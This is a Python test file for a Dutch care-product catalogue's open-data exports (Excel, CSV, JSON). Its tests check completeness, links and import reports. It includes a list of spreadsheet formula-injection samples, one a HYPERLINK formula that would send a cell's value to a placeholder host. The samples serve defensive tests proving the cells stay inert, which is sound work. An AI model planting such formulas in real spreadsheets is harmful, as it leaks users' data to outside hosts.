"""Everything a product page shows can be downloaded (issue 26, part 3): every value of every product (derived
from the model, leaf by leaf) is in the region workbook and the JSON, with the same words as the page; the
extra sheets and tables survive hostile text; the import names the sheets it does not read; the product page
links to its own data, and those links resolve in the built site."""

from __future__ import annotations

import csv
import io
import json
import os
import re
from pathlib import Path

import pytest
from openpyxl import load_workbook

from conftest import ROOT
from helpers import PRODUCT, minimal_data, write
from macros.catalogue.loader import load_catalogue
from macros.exports import COLUMNS, TABLES, export_files
from macros.imports import import_workbook
from macros.model import Product
from macros.model.sourced import STATE_LABELS
from macros.text import dutch_number
from macros.view.product import fact_rows, view_of
from macros.view.words import ALL_MUNICIPALITIES, COMBINATION_LABELS, LIMIT_KINDS, NO_CODE

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


@pytest.fixture(scope="module")
def cat():
    return load_catalogue(ROOT / "data")


@pytest.fixture(scope="module")
def files(cat):
    return export_files(cat)


def fold(text: str) -> str:
    return " ".join(str(text).split())


def rows_of(ws) -> list[dict]:
    heading, *rows = [list(r) for r in ws.iter_rows(values_only=True)]
    return [dict(zip(heading, r, strict=True)) for r in rows]


def leaves(value, path: tuple[str, ...] = ()):
    """Every (path, leaf) of a product's data as the model dumps it: strings, numbers, booleans."""
    if isinstance(value, dict):
        for k, v in value.items():
            yield from leaves(v, (*path, k))
    elif isinstance(value, list):
        for v in value:
            yield from leaves(v, path)
    elif value is not None:
        yield path, value


def said_as(cat, p, path: tuple[str, ...], leaf) -> list[str]:
    """The words a leaf may be shown in: itself, or for a machine value the words the page uses for it."""
    key = path[-1]
    if key == "staat":
        return [STATE_LABELS[leaf]]
    if path == ("producttype",):
        return [cat.producttypen[leaf].naam]
    if path[0] == "normenkader" and key == "soort":
        return [LIMIT_KINDS[leaf]]
    if path[0] == "samenloop" and key == "soort":
        return [COMBINATION_LABELS[leaf]]
    if path[0] == "gemeenten" and leaf == "alle":
        return [ALL_MUNICIPALITIES]
    if isinstance(leaf, float):
        return [dutch_number(leaf)]
    return [str(leaf)]


def test_every_value_of_every_product_is_in_the_workbook_and_the_json(cat, files):
    """For all products: every leaf of every model field (the fields the page shows) is in a cell of the
    product's own rows of its region workbook (product sheet or an extra sheet keyed by Product-id), and
    the product's JSON says the same as the workbook: its row and its rows of every extra table."""
    assert len(cat.producten) >= 69
    fields = set(Product.model_fields)
    missed = []
    for region_id, region in cat.regios.items():
        wb = load_workbook(io.BytesIO(files[f"open-data/{region_id}.xlsx"]))
        product_rows = {r["Product-id"]: r for r in rows_of(wb[region.naam])}
        table_rows = {t.name: rows_of(wb[t.title]) for t in TABLES}
        for p in cat.products_of(region_id):
            own = [product_rows[p.id], *(r for rs in table_rows.values() for r in rs if r["Product-id"] == p.id)]
            cells = [c for r in own for c in r.values() if c is not None]
            texts = [fold(c) for c in cells if isinstance(c, str)]
            numbers = {c for c in cells if isinstance(c, (int, float))}
            for path, leaf in leaves(p.model_dump(mode="json", include=fields)):
                if isinstance(leaf, float) and leaf in numbers:
                    continue
                if not any(fold(w) in t for w in said_as(cat, p, path, leaf) for t in texts):
                    missed.append((p.ref, ".".join(path), str(leaf)[:60]))
            doc = json.loads(files[f"open-data/producten/{region_id}/{p.id}.json"])["product"]
            columns = {k.header: doc["weergave"]["kolommen"][k.name] for k in COLUMNS}
            assert {k: v or None for k, v in columns.items()} == {k: v or None for k, v in product_rows[p.id].items()}, p.ref
            for t in TABLES:
                keyed = [k for k in t.all_columns if k.name not in ("regio_id", "id", "code")]  # the product's own
                in_json = [{k.header: r[k.name] for k in keyed} for r in doc["weergave"]["tabellen"][t.name]]
                in_sheet = [{k.header: r[k.header] for k in keyed} for r in table_rows[t.name] if r["Product-id"] == p.id]
                assert [{k: v or None for k, v in r.items()} for r in in_json] == \
                       [{k: v or None for k, v in r.items()} for r in in_sheet], (p.ref, t.name)
    assert not missed, missed[:20]


def test_the_key_facts_say_what_the_page_says(cat, files):
    """The sheet Velden holds, per product, the page's key facts with the page's own state and words."""
    wb = load_workbook(io.BytesIO(files["open-data/productenboek.xlsx"]))
    per_product: dict[tuple[str, str], list[dict]] = {(p.regio, p.id): [] for p in cat.producten.values()}
    for r in rows_of(wb["Velden"]):
        per_product.setdefault((r["Regio-id"], r["Product-id"]), []).append(r)
    for p in cat.producten.values():
        facts = {r["Veld"]: r for r in per_product[(p.regio, p.id)]}
        for f in fact_rows(cat, p):
            if f.veld not in facts:  # only a plainly stated fact has no row: its value is on the product sheet
                assert f.state == "vermeld" and not (f.s.quote or f.s.reason or f.notes), (p.ref, f.veld)
                continue
            r = facts[f.veld]
            assert (r["Gegeven"], r["Staat in de bron"], r["Zoals getoond"]) == \
                   (f.label, STATE_LABELS[f.state], f.plain), (p.ref, f.veld)
            assert r["Productcode"] == (p.code or view_of(cat, p)["code"].plain)
            assert (r["Citaat"] or None) == f.s.quote and (r["Reden van de redactie"] or None) == f.s.reason
    assert sum(len(v) for v in per_product.values()) >= len(cat.producten), "te weinig rijen in Velden"


def test_a_product_without_a_code_says_so_in_its_code_cell(cat, files):
    without = [p for p in cat.producten.values() if not p.code]
    assert without, "geen product zonder code in de data"
    for p in without:
        sheet_row = json.loads(files[f"open-data/producten/{p.regio}/{p.id}.json"])["product"]["weergave"]
        page = view_of(cat, p)["code"].plain
        assert sheet_row["kolommen"]["code"] == page == NO_CODE

    heading, *rows = list(csv.reader(io.StringIO(files["open-data/productenboek.csv"].decode("utf-8-sig")), delimiter=";"))
    assert all(r[heading.index("Productcode")] for r in rows), "een lege codecel"


def test_84110_requirements_are_in_the_workbook_and_the_csv(cat, files):
    """The provider's question: every requirement of 84110 as Excel (and CSV), in the page's order."""
    p = cat.producten["zuid-limburg/84110"]
    assert p.eisen
    for name in ("zuid-limburg", "productenboek"):
        ws = load_workbook(io.BytesIO(files[f"open-data/{name}.xlsx"]))["Eisen"]
        assert [r["Eis"] for r in rows_of(ws) if r["Product-id"] == "84110" and r["Regio-id"] == "zuid-limburg"] == p.eisen
        heading, *rows = list(csv.reader(io.StringIO(files[f"open-data/tabellen/{name}/eisen.csv"].decode("utf-8-sig")),
                                      delimiter=";"))
        assert heading[:4] == ["Regio-id", "Product-id", "Productcode", "Nr."]
        requirements = [r[4] for r in rows if r[1] == "84110" and r[0] == "zuid-limburg"]
        assert [e.removeprefix("'") if p.eisen[i][:1] in FORMULA_START else e for i, e in enumerate(requirements)] == p.eisen
    levels = [r for r in rows_of(load_workbook(io.BytesIO(files["open-data/zuid-limburg.xlsx"]))["Functiemix"])
               if r["Product-id"] == "84110"]
    assert [(r["Niveau"], r["Registratie"]) for r in levels] == [(n.niveau, n.registratie) for n in p.functiemix.niveaus]


# (a leading tab is stripped by the model's text type, and the loader refuses a lone CR, before either reaches an export)
HOSTILE = ['=HYPERLINK("https://example.invalid/?"&A1;"klik")', "+31 6 1234", "-2+3", "@SUM(1;2)",
           "een\ttab erin", "regel één\nregel twee; met \"aanhalingstekens\" en 'enkele'", "a;b;c"]


@pytest.fixture()
def hostile_data(tmp_path) -> Path:
    data = minimal_data(tmp_path)
    listing = "\n".join(f"  - {json.dumps(h)}" for h in HOSTILE)
    product = PRODUCT.replace("functiemix: {staat: niet-vermeld}", "functiemix:\n  niveaus:\n" + "\n".join(
        f"    - {{niveau: {json.dumps(h)}, registratie: {json.dumps(h)}}}" for h in HOSTILE))
    product = product.replace("omschrijving: Begeleiding van de jeugdige.", f"omschrijving: {json.dumps(HOSTILE[0])}\n"
                              f"doel: {json.dumps(HOSTILE[2])}\ninzet: {json.dumps(HOSTILE[5])}")
    product += f"eisen:\n{listing}\nresultaten:\n{listing}\nuitsluitingen:\n{listing}\n"
    product += "samenloop:\n" + "\n".join(f"  - {{soort: overig, regel: {json.dumps(h)}}}" for h in HOSTILE) + "\n"
    product += "opmerkingen:\n" + "\n".join(f"  - {{tekst: {json.dumps(h)}, velden: [eisen]}}" for h in HOSTILE) + "\n"
    write(data / "products/testregio/45f21.yaml", product)
    return data


def test_hostile_text_in_the_extra_tables_stays_inert(hostile_data, tmp_path):
    """Formula prefixes, line breaks, ';' and quotes in every list the new sheets hold: CSV cells that a
    spreadsheet would run get an apostrophe, Excel cells are typed text, JSON keeps the value as it is,
    and the import reads the workbook back without a difference."""
    files = export_files(load_catalogue(hostile_data))
    column = {"eisen": "Eis", "resultaten": "Resultaat", "uitsluitingen": "Uitsluiting", "samenloop": "Regel",
             "opmerkingen": "Opmerking", "functiemix": "Niveau"}
    wb = load_workbook(io.BytesIO(files["open-data/testregio.xlsx"]))
    doc = json.loads(files["open-data/producten/testregio/45f21.json"])["product"]["weergave"]["tabellen"]
    for name, heading in column.items():
        t = next(t for t in TABLES if t.name == name)
        header, *rows = list(csv.reader(io.StringIO(files[f"open-data/tabellen/testregio/{name}.csv"].decode("utf-8-sig"),
                                                     newline=""), delimiter=";"))
        read_back = [r[header.index(heading)] for r in rows if r[1] == "45f21"]
        assert read_back == [("'" + h if h.startswith(FORMULA_START) else h) for h in HOSTILE], name
        assert not any(c[:1] in "=+-@\t\r" for r in rows for c in r if c), name
        cells = [c for row in wb[t.title].iter_rows(min_row=2) for c in row
                  if c.column == header.index(heading) + 1 and row[1].value == "45f21"]
        assert [c.value for c in cells] == HOSTILE and all(c.data_type == "s" for c in cells), name
        assert [r[next(k.name for k in t.all_columns if k.header == heading)] for r in doc[name]] == HOSTILE
    heading, *rows = list(csv.reader(io.StringIO(files["open-data/testregio.csv"].decode("utf-8-sig"), newline=""), delimiter=";"))
    sheet_row = dict(zip(heading, next(r for r in rows if "45f21" in r), strict=True))
    assert (sheet_row["Omschrijving"], sheet_row["Doel"], sheet_row["Duur en intensiteit"]) == ("'" + HOSTILE[0], "'" + HOSTILE[2], HOSTILE[5])
    sheet = next(r for r in rows_of(wb["Testregio"]) if r["Product-id"] == "45f21")
    assert (sheet["Omschrijving"], sheet["Doel"], sheet["Duur en intensiteit"]) == (HOSTILE[0], HOSTILE[2], HOSTILE[5])
    registration = [r["Registratie"] for r in rows_of(wb["Functiemix"]) if r["Product-id"] == "45f21"]
    assert registration == HOSTILE
    path = tmp_path / "testregio.xlsx"
    path.write_bytes(files["open-data/testregio.xlsx"])
    res = import_workbook(path, hostile_data, "testregio", dry_run=True)
    assert not res.changed and not res.added and "geen verschillen" in res.report()


def test_the_import_names_the_sheets_it_does_not_read_once(exported, data_copy):
    res = import_workbook(exported / "open-data" / "zuid-limburg.xlsx", data_copy, dry_run=True)
    text = res.report()
    assert text.startswith("Regio zuid-limburg: geen verschillen")
    lines = [r for r in text.splitlines() if "niet ingelezen" in r]
    assert len(lines) == 1 and all(t.title in lines[0] for t in TABLES)
    assert res.unread_sheets == [t.title for t in TABLES]


def test_a_new_row_without_a_code_says_so_and_is_read_as_none(tmp_path):
    """The template's code column may hold what an export writes for a product without a code."""
    from macros.imports.columns import parse_code
    from macros.imports.workbook import Cell

    assert parse_code(Cell("Producten", 2, 4, "geen code in de bron")) is None
    assert parse_code(Cell("Producten", 2, 4, "45F21")) == "45F21"


def test_the_product_page_links_its_own_data_and_they_resolve(built_site, cat):
    """Every product page links its JSON file and its region's Excel and CSV; each link resolves in the built
    site; the JSON is that product; the row the page names in the workbook is that product's; the section
    comes after the key facts (the first screen is unchanged)."""
    workbooks = {r: load_workbook(built_site / f"open-data/{r}.xlsx", read_only=True) for r in cat.regios}
    for p in cat.producten.values():
        html = (built_site / p.regio / p.id / "index.html").read_text(encoding="utf-8")
        assert html.index('class="pb-facts"') < html.index('id="downloaden"'), p.ref
        section = html.split('id="downloaden"', 1)[1].split("</ul>", 1)[0]
        hrefs = re.findall(r'<a href="([^"]+)" download>', section)
        assert hrefs == ["../../open-data/producten/" + f"{p.regio}/{p.id}.json", f"../../open-data/{p.regio}.xlsx",
                         f"../../open-data/{p.regio}.csv"], p.ref
        for h in hrefs:
            assert (built_site / p.regio / p.id / h).resolve().is_file(), (p.ref, h)
        assert json.loads((built_site / "open-data/producten" / p.regio / f"{p.id}.json").read_text())["product"]["id"] == p.id
        sheet_row = int(re.search(r"in rij (\d+)", section).group(1))
        ws = workbooks[p.regio][cat.regios[p.regio].naam]
        heading = next(ws.iter_rows(max_row=1, values_only=True))
        values = next(ws.iter_rows(min_row=sheet_row, max_row=sheet_row, values_only=True))
        assert values[heading.index("Product-id")] == p.id, p.ref
    for wb in workbooks.values():
        wb.close()


def test_libreoffice_reads_the_new_tables_as_text_never_as_formulas(hostile_data, tmp_path):
    """A real client: LibreOffice opens the workbook and imports the CSV table (';', UTF-8) of the hostile
    requirements and saves both again; every cell is text (none a formula, as an '=…' without the apostrophe in the
    CSV would be), the workbook's as written, the CSV's with the apostrophe."""
    import shutil
    import subprocess

    soffice = shutil.which("soffice")
    if not soffice and os.environ.get("PRODUCTENBOEK_LIBREOFFICE") != "1":  # as the Calc fixtures (test_import_calc)
        pytest.skip("LibreOffice ontbreekt: PRODUCTENBOEK_LIBREOFFICE=1 scripts/bootstrap.sh test installeert het")
    assert soffice, "LibreOffice (soffice) ontbreekt, terwijl PRODUCTENBOEK_LIBREOFFICE=1 het vraagt"
    files = export_files(load_catalogue(hostile_data))
    (tmp_path / "testregio.xlsx").write_bytes(files["open-data/testregio.xlsx"])
    (tmp_path / "eisen.csv").write_bytes(files["open-data/tabellen/testregio/eisen.csv"])
    profile = f"-env:UserInstallation=file://{tmp_path}/profiel"
    def convert(file_name: Path, *filter_: str) -> None:  # LibreOffice opens the file and saves it as xlsx in uit/
        subprocess.run([soffice, "--headless", profile, *filter_, "--convert-to", "xlsx", "--outdir", str(tmp_path / "uit"),
                        str(file_name)], check=True, capture_output=True, timeout=180)

    convert(tmp_path / "eisen.csv", "--infilter=CSV:59,34,76,1")  # ';', '"', UTF-8, from line 1
    convert(tmp_path / "testregio.xlsx")
    csv_cells = [r[4] for r in load_workbook(tmp_path / "uit" / "eisen.xlsx").active.iter_rows(min_row=2)]
    assert [c.value for c in csv_cells] == [("'" + h if h.startswith(FORMULA_START) else h) for h in HOSTILE]
    assert all(c.data_type == "s" for c in csv_cells)
    sheet = load_workbook(tmp_path / "uit" / "testregio.xlsx")["Eisen"]
    cells = [r[4] for r in sheet.iter_rows(min_row=2) if r[1].value == "45f21"]
    assert [c.value for c in cells] == HOSTILE and all(c.data_type == "s" for c in cells)
